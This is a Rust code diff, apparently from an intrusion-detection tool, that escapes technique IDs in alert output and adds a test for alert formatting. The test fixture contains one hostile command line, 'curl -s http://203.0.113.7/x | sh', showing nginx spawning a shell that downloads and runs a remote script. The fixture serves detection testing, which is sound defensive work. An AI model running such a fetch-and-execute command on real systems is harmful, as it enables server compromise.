@@ -12,7 +12,9 @@ pub(super) fn signal_block(signal: &Signal) -> String {
         // Writing to a String cannot fail.
         let _ = write!(block, " ({} matches)", signal.count);
     }
-    let _ = write!(block, " [{}]\n   ", signal.rule.techniques.join(", "));
+    block.push_str(" [");
+    push_escaped(&mut block, &signal.rule.techniques.join(", "));
+    block.push_str("]\n   ");
     push_escaped(&mut block, &signal.message);
     block.push_str("\n   ");
     push_escaped(&mut block, signal.event.process.image.executable_name());
@@ -32,5 +34,23 @@ pub(super) fn color(severity: Severity) -> &'static str {
         Severity::Medium => "33",
         Severity::High => "31",
         Severity::Critical => "1;31",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::fixtures;
+
+    #[test]
+    fn a_signal_is_told_with_its_rule_its_message_who_led_to_it_and_what_to_look_at() {
+        let expected = "!! CRITICAL Web server spawned a shell [T1505.003, T1059.004]
+   bash started by nginx: bash -c curl -s http://203.0.113.7/x | sh
+   bash ← nginx ← systemd
+   Read the web server's access log at that second.";
+        assert_eq!(signal_block(&fixtures::signal()), expected);
+        let closed = Signal { state: SignalState::Closed, count: 7, ..fixtures::signal() };
+        let expected = "!! CRITICAL Web server spawned a shell (7 matches) [";
+        assert!(signal_block(&closed).starts_with(expected), "{}", signal_block(&closed));
     }
 }
